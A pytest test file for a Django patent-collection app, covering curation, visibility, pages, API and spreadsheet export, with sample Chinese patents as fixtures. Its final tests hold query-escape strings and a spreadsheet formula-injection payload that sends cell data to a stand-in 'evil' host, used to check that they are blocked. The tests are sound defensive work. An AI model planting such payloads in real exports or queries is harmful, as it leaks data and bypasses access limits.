"""Industry collections: the query, curation, counts, pages, export and who may see what."""

import datetime as dt
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

from zhibao.conftest import login
from zhibao.core.services.jobs import JOB_FUNCTIONS
from zhibao.patents.collections import (
    DEMO_COLLECTIONS,
    collection_create,
    collection_delete,
    collection_exclude,
    collection_export_xlsx,
    collection_include,
    collection_publication_numbers,
    collection_query,
    collection_update,
    collections_refresh,
    collections_visible_to,
    load_demo_collections,
    within_collection_query,
)
from zhibao.patents.models import Collection, Patent
from zhibao.patents.search import get_engine

PATENTS = [
    # publication number, title, main IPC, applicant, application date, status
    ("CN110000001A", "一种稀土永磁材料的制备方法", "H01F1/057", "包头稀土研究院", dt.date(2021, 3, 1), "granted"),
    ("CN110000002B", "稀土萃取分离工艺", "C22B59/00", "北方稀土集团", dt.date(2020, 5, 2), "granted"),
    ("CN210000003U", "一种钕铁硼磁体成型模具", "H01F41/02", "包头天和磁材", dt.date(2022, 7, 3), "pending"),
    ("CN210000004U", "一种酸奶发酵罐", "A23C9/12", "内蒙古伊利实业", dt.date(2022, 1, 4), "granted"),
    ("CN110000005A", "沙棘果油的提取方法", "A61K36/185", "鄂尔多斯沙棘公司", dt.date(2019, 9, 5), "lapsed"),
]


def make_patent(pn, title, ipc, applicant, date, status):
    kind = pn[-1]
    return Patent.objects.create(
        publication_number=pn, application_number=f"CN20{pn[2:12]}.X", title=title, abstract=f"{title}。摘要。",
        patent_type="utility_model" if kind == "U" else "invention", ipc_main=ipc, ipc_codes=[ipc],
        applicants=[{"name": applicant}], first_applicant=applicant, application_date=date, legal_status=status,
    )


@pytest.fixture
def corpus(db):
    patents = [make_patent(*row) for row in PATENTS]
    engine = get_engine()
    engine.index_patents(patents)
    engine.commit()
    return patents


@pytest.fixture
def rare_earth(operator, corpus):
    return collection_create(user=operator, slug="rare-earth", name="稀土", description="稀土产业",
                             query="IPC=C22B59/00 OR IPC=H01F1/057 OR TIAB=稀土")


@pytest.fixture
def private(operator, corpus):
    return collection_create(user=operator, slug="secret", name="内部", query="TIAB=沙棘", is_public=False)


def members(collection):
    return sorted(collection_publication_numbers(collection=collection))


# --- The query ----------------------------------------------------------------------------------


def test_collection_query_composition():
    c = Collection(query="IPC=H01M", includes=["CN1A", "CN2B"], excludes=["CN3U"])
    assert collection_query(c) == "((IPC=H01M) OR PN=CN1A OR PN=CN2B) AND NOT (PN=CN3U)"
    assert collection_query(Collection(query="TIAB=稀土")) == "(TIAB=稀土)"
    assert collection_query(Collection(includes=["CN1A"])) == "PN=CN1A"
    assert collection_query(Collection(excludes=["CN1A"])) == ""
    assert collection_query(Collection()) == ""
    assert within_collection_query(Collection(query="TIAB=稀土"), "TI=永磁") == "((TIAB=稀土)) AND (TI=永磁)"


# --- Services -----------------------------------------------------------------------------------


def test_members_counts_include_and_exclude(rare_earth, operator):
    assert members(rare_earth) == ["CN110000001A", "CN110000002B"]
    assert rare_earth.patent_count == 2 and rare_earth.refreshed_at is not None
    assert rare_earth.owner == operator

    collection_include(user=operator, collection=rare_earth, publication_numbers=["cn 210000003 u"])
    rare_earth.refresh_from_db()
    assert rare_earth.includes == ["CN210000003U"] and rare_earth.patent_count == 3
    assert members(rare_earth) == ["CN110000001A", "CN110000002B", "CN210000003U"]

    collection_exclude(user=operator, collection=rare_earth, publication_numbers=["CN110000002B", "CN210000003U"])
    rare_earth.refresh_from_db()
    assert rare_earth.includes == [] and rare_earth.excludes == ["CN110000002B", "CN210000003U"]
    assert members(rare_earth) == ["CN110000001A"] and rare_earth.patent_count == 1

    collection_include(user=operator, collection=rare_earth, publication_numbers=["CN110000002B"])
    assert rare_earth.excludes == ["CN210000003U"] and members(rare_earth) == ["CN110000001A", "CN110000002B"]


def test_query_errors_are_form_errors_with_the_position(operator, corpus):
    with pytest.raises(ValidationError) as exc:
        collection_create(user=operator, slug="bad", name="坏", query="IPC=H01M AND (TI=电池")
    message = exc.value.message_dict["query"][0]
    assert "20" in message  # the character where it breaks (the end, where ")" is missing)
    with pytest.raises(ValidationError) as exc:
        collection_create(user=operator, slug="bad", name="坏", query="IPC=H01M", includes=["not a number"])
    assert "includes" in exc.value.message_dict
    assert not Collection.objects.exists()


def test_update_and_delete(rare_earth, operator):
    collection_update(user=operator, collection=rare_earth, query="TIAB=沙棘", name="沙棘")
    rare_earth.refresh_from_db()
    assert rare_earth.name == "沙棘" and rare_earth.patent_count == 1
    with pytest.raises(ValidationError):
        collection_update(user=operator, collection=rare_earth, slug="not a slug")
    collection_delete(user=operator, collection=rare_earth)
    assert not Collection.objects.exists()


def test_only_operators_curate(rare_earth, alice):
    with pytest.raises(PermissionDenied):
        collection_create(user=alice, slug="mine", name="我的")
    with pytest.raises(PermissionDenied):
        collection_include(user=alice, collection=rare_earth, publication_numbers=["CN210000004U"])
    with pytest.raises(PermissionDenied):
        collection_delete(user=alice, collection=rare_earth)


def test_refresh_recomputes_every_count(rare_earth, operator):
    engine = get_engine()
    engine.index_patents([make_patent("CN110000009A", "稀土抛光粉", "C09K3/14", "包头", dt.date(2023, 1, 1), "pending")])
    engine.commit()
    Collection.objects.filter(pk=rare_earth.pk).update(patent_count=0, refreshed_at=None)
    result = collections_refresh()
    rare_earth.refresh_from_db()
    assert result == {"collections": 1, "failed": []}
    assert rare_earth.patent_count == 3 and rare_earth.refreshed_at is not None
    assert JOB_FUNCTIONS["patents.collections_refresh"] is collections_refresh


def test_visibility(rare_earth, private, alice, operator, sysadmin):
    assert list(collections_visible_to(alice)) == [rare_earth]
    assert set(collections_visible_to(operator)) == {rare_earth, private}
    assert set(collections_visible_to(sysadmin)) == {rare_earth, private}


def test_demo_collections_are_idempotent(db, corpus):
    load_demo_collections()
    assert Collection.objects.count() == len(DEMO_COLLECTIONS) == 10
    rare = Collection.objects.get(slug="rare-earth")
    assert rare.patent_count == 2 and Collection.objects.get(slug="dairy").patent_count == 1
    rare.query = "TIAB=稀土萃取"
    rare.save()
    load_demo_collections()
    assert Collection.objects.count() == 10 and Collection.objects.get(slug="rare-earth").query == "TIAB=稀土萃取"


def test_export_contents(rare_earth, settings):
    from openpyxl import load_workbook

    content, rows, capped = collection_export_xlsx(collection=rare_earth)
    sheet = load_workbook(io.BytesIO(content)).active
    values = list(sheet.values)
    assert (rows, capped, len(values)) == (2, False, 3)
    assert len(values[0]) == 11  # the columns of every patent export
    by_pn = {row[0]: row for row in values[1:]}
    assert by_pn["CN110000001A"][3] == "一种稀土永磁材料的制备方法"
    assert by_pn["CN110000001A"][4] == "包头稀土研究院" and by_pn["CN110000001A"][5] == "2021-03-01"
    assert by_pn["CN110000001A"][7] == "H01F1/057"

    content, rows, capped = collection_export_xlsx(collection=rare_earth, limit=1)
    values = list(load_workbook(io.BytesIO(content)).active.values)
    assert (rows, capped, len(values)) == (1, True, 3)  # header, one row, the note that there are more


# --- Pages --------------------------------------------------------------------------------------


def test_pages_for_a_reader(rare_earth, private, alice):
    client = login(alice)
    listing = client.get("/collections/").content.decode()
    assert "稀土" in listing and "内部" not in listing and "/collections/new/" not in listing

    page = client.get("/collections/rare-earth/")
    html = page.content.decode()
    assert page.status_code == 200
    assert "CN110000001A" in html and "CN110000002B" in html and "CN210000004U" not in html
    assert "/collections/rare-earth/edit/" not in html

    within = client.get("/collections/rare-earth/", {"q": "TI=永磁"}, headers={"HX-Request": "true",
                                                                              "HX-Target": "collection-results"})
    text = within.content.decode()
    assert "<html" not in text and "CN110000001A" in text and "CN110000002B" not in text

    faceted = client.get("/collections/rare-earth/", {"year": "2020"}).content.decode()
    assert "CN110000002B" in faceted and "CN110000001A" not in faceted

    bad = client.get("/collections/rare-earth/", {"q": "TI=(永磁"})
    assert bad.status_code == 200 and bad.context["error"]


def test_stranger_gets_404_for_a_private_collection(private, alice):
    client = login(alice)
    assert client.get("/collections/secret/").status_code == 404
    assert client.get("/collections/secret/export.xlsx").status_code == 404
    response = client.get("/api/v1/collections/secret")
    assert response.status_code == 404 and set(response.json()) == {"code", "message", "fields"}
    assert client.get("/api/v1/collections/secret/patents").status_code == 404


def test_reader_cannot_curate_on_pages(rare_earth, alice):
    client = login(alice)
    assert client.get("/collections/new/").status_code == 403
    assert client.post("/collections/new/", {"name": "x", "slug": "x"}).status_code == 403
    assert client.get("/collections/rare-earth/edit/").status_code == 403
    assert client.post("/collections/rare-earth/delete/").status_code == 403
    assert client.post("/collections/rare-earth/include/", {"publication_numbers": "CN210000004U"}).status_code == 403
    assert client.post("/collections/rare-earth/exclude/", {"publication_number": "CN110000001A"}).status_code == 403
    assert Collection.objects.filter(slug="rare-earth", includes=[], excludes=[]).exists()


def test_anonymous_is_sent_to_login(rare_earth, client):
    for url in ["/collections/", "/collections/rare-earth/", "/collections/rare-earth/export.xlsx"]:
        assert client.get(url).headers["Location"].startswith("/accounts/login/")
    assert client.get("/api/v1/collections").status_code == 401
    assert client.post("/api/v1/collections", {}, content_type="application/json").status_code == 401


def test_operator_curates_on_pages(operator, corpus):
    client = login(operator)
    assert client.get("/collections/new/").status_code == 200
    bad = client.post("/collections/new/", {"name": "稀土", "slug": "rare-earth", "query": "TI=(稀土"})
    assert bad.status_code == 200 and bad.context["form"].errors["query"]
    response = client.post("/collections/new/", {"name": "稀土", "slug": "rare-earth", "is_public": "on",
                                                 "query": "IPC=C22B59/00 OR IPC=H01F1/057"})
    assert response.status_code == 302 and response.headers["Location"] == "/collections/rare-earth/"
    collection = Collection.objects.get(slug="rare-earth")
    assert collection.patent_count == 2 and collection.owner == operator

    client.post("/collections/rare-earth/include/", {"publication_numbers": "CN210000003U, CN210000004U"})
    client.post("/collections/rare-earth/exclude/", {"publication_number": "CN210000004U"})
    collection.refresh_from_db()
    assert collection.includes == ["CN210000003U"] and collection.excludes == ["CN210000004U"]
    assert collection.patent_count == 3

    edit = client.get("/collections/rare-earth/edit/")
    assert "CN210000003U" in edit.content.decode()
    client.post("/collections/rare-earth/edit/", {"name": "稀土产业", "slug": "rare-earth", "query": "TIAB=稀土",
                                                 "includes": "", "excludes": ""})
    collection.refresh_from_db()
    assert collection.name == "稀土产业" and collection.includes == [] and collection.is_public is False

    export = client.get("/collections/rare-earth/export.xlsx")
    assert export.status_code == 200 and export["Content-Type"].startswith("application/vnd.openxmlformats")

    assert "rare-earth" in client.get("/collections/rare-earth/delete/").content.decode()
    assert client.post("/collections/rare-earth/delete/").headers["Location"] == "/collections/"
    assert not Collection.objects.exists()


def test_large_export_becomes_a_job(rare_earth, operator, settings):
    settings.PATENT_EXPORT_SYNC_MAX = 1
    client = login(operator)
    page = client.get("/collections/rare-earth/").content.decode()
    assert "in the background" in page or "后台" in page
    response = client.post("/collections/rare-earth/export.xlsx")
    assert response.status_code == 302 and response.headers["Location"].startswith("/jobs/")
    from zhibao.core.models import Job

    job = Job.objects.get()
    assert job.name == "patents.export" and job.params["q"] == collection_query(rare_earth)


# --- API ----------------------------------------------------------------------------------------


def test_api_list_detail_and_members(rare_earth, private, alice):
    client = login(alice)
    data = client.get("/api/v1/collections").json()
    assert [c["slug"] for c in data["results"]] == ["rare-earth"]
    detail = client.get("/api/v1/collections/rare-earth").json()
    assert detail["name"] == "稀土" and detail["patent_count"] == 2
    members_page = client.get("/api/v1/collections/rare-earth/patents", {"page_size": 1}).json()
    assert members_page["count"] == 2 and len(members_page["results"]) == 1
    assert members_page["results"][0]["publication_number"] in {"CN110000001A", "CN110000002B"}
    within = client.get("/api/v1/collections/rare-earth/patents", {"q": "TI=萃取"}).json()
    assert [r["publication_number"] for r in within["results"]] == ["CN110000002B"]
    assert within["results"][0]["applicants"] == ["北方稀土集团"]
    assert client.get("/api/v1/collections/rare-earth/patents", {"q": "TI=("}).status_code == 400


def test_api_reader_cannot_curate(rare_earth, alice):
    client = login(alice)
    assert client.post("/api/v1/collections", {"slug": "x", "name": "x"}, content_type="application/json").status_code == 403
    assert client.patch("/api/v1/collections/rare-earth", {"name": "x"}, content_type="application/json").status_code == 403
    assert client.delete("/api/v1/collections/rare-earth").status_code == 403
    assert Collection.objects.get(slug="rare-earth").name == "稀土"


def test_api_operator_curates(operator, corpus):
    client = login(operator)
    response = client.post("/api/v1/collections", {"slug": "dairy", "name": "乳业", "query": "TIAB=酸奶"},
                           content_type="application/json")
    assert response.status_code == 201 and response.json()["patent_count"] == 1
    bad = client.post("/api/v1/collections", {"slug": "bad", "name": "x", "query": "TI=("}, content_type="application/json")
    assert bad.status_code == 400 and "query" in bad.json()["fields"]
    patched = client.patch("/api/v1/collections/dairy", {"includes": ["CN110000005A"]}, content_type="application/json")
    assert patched.status_code == 200 and patched.json()["patent_count"] == 2
    assert patched.json()["includes"] == ["CN110000005A"]
    assert client.delete("/api/v1/collections/dairy").status_code == 204
    assert client.get("/api/v1/collections/dairy").status_code == 404


def test_searching_within_a_collection_cannot_escape_it(rare_earth, operator):
    from zhibao.patents.search import QuerySyntaxError

    collection_exclude(user=operator, collection=rare_earth, publication_numbers=["CN110000002B"])
    for escape in ("永磁) OR (TIAB=酸奶", "稀土) OR (PN=CN110000002B"):
        with pytest.raises(QuerySyntaxError):
            collection_publication_numbers(collection=rare_earth, q=escape)
    response = login(operator).get(reverse("patents:collection_detail", args=[rare_earth.slug]),
                                   {"q": "永磁) OR (TIAB=酸奶"})
    assert response.status_code == 200 and "CN210000004U" not in response.content.decode()


def test_collection_api_refuses_pages_beyond_the_result_window(rare_earth, alice):
    client = login(alice)
    url = f"/api/v1/collections/{rare_earth.slug}/patents"
    assert client.get(url, {"page": 100000000000}).status_code == 400
    assert client.get(url, {"page": "x"}).json()["fields"]["page"]


def test_collection_export_neutralises_formulas(operator, corpus):
    from openpyxl import load_workbook

    make_patent("CN110000009A", '=HYPERLINK("http://evil/?"&A1,"点击")', "H01F1/057", "@恶意公司",
                dt.date(2021, 1, 1), "granted")
    engine = get_engine()
    engine.index_patents(Patent.objects.filter(publication_number="CN110000009A"))
    engine.commit()
    collection = collection_create(user=operator, slug="f", name="稀土/永磁", query="IPC=H01F")
    content, rows, _capped = collection_export_xlsx(collection=collection)
    sheet = load_workbook(io.BytesIO(content)).active  # a "/" in the name makes a valid sheet title
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "CN110000009A")
    assert row[3].data_type == "s" and row[3].value.startswith("'=")
    assert row[4].value.startswith("'@")
